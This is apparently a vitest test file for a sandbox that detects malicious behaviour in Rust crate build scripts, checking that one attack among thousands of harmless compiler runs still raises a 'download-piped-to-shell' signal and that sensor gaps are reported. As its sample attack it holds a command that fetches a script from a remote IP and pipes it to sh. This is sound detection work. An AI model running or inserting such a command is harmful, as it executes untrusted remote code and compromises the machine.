import { expect, test } from 'vitest';
import { CrateId } from '../../src/model/crate.ts';
import { evidence } from '../../src/model/evidence.ts';
import { makeBaits } from '../../src/sandbox/baits/index.ts';
import { type Interpreter, interpret, type Trace } from '../../src/sandbox/sensors/index.ts';
import { loadCatalog, raiseSignals } from '../../src/signals/index.ts';

const STORY = CrateId.parse({ name: 'story', version: '1.0.0' });
const AT = { phase: 'build' as const, process: ['cargo', 'build-script-build'] };

const ran = (program: string, ...words: string[]) =>
  evidence('process-exec', 'story@1.0.0', AT, {
    program,
    arguments: [program, ...words],
    directory: '/',
    result: 'ok',
    origin: 'image',
  });

/** What is seen of a build whose one sensor tells these programs, in this order. */
const baits = await makeBaits('run');
function seenOf(pieces: readonly ReturnType<typeof ran>[]) {
  const interpreter: Interpreter = { id: 'given', interpret: () => pieces };
  const nothing = { calls: [], processes: [], phases: new Map(), root: null, gap: null } as unknown as Trace;
  const silent = { events: [], gap: null };
  const seen = { trace: nothing, sinkhole: silent, witness: silent, baits };
  return interpret(seen, STORY, [interpreter]);
}

const harmless = (count: number) => Array.from({ length: count }, (_, at) => ran('/usr/bin/cc', `${at}.c`));
const attack = ran('/bin/sh', '-c', 'curl http://198.51.100.7/x | sh');

test('one deed behind thousands of harmless ones is seen', async () => {
  const catalog = await loadCatalog();
  const raised = (pieces: readonly ReturnType<typeof ran>[]) =>
    raiseSignals({ evidence: seenOf(pieces), coverage: [] }, catalog).map(({ id }) => id);
  expect(raised([attack])).toContain('download-piped-to-shell');
  expect(raised([...harmless(3000), attack])).toEqual(raised([attack]));
});

test('beyond what is looked at there is a gap, so that nothing is clean', () => {
  const pieces = seenOf([...harmless(20_000), attack]);
  const gaps = pieces.flatMap((piece) => (piece.kind === 'sensor-gap' ? [piece.data] : []));
  expect(gaps).toEqual([{ sensor: 'process-exec', detail: '1 more than are looked at' }]);
  expect(seenOf(harmless(20_000)).some((piece) => piece.kind === 'sensor-gap')).toBe(false);
});
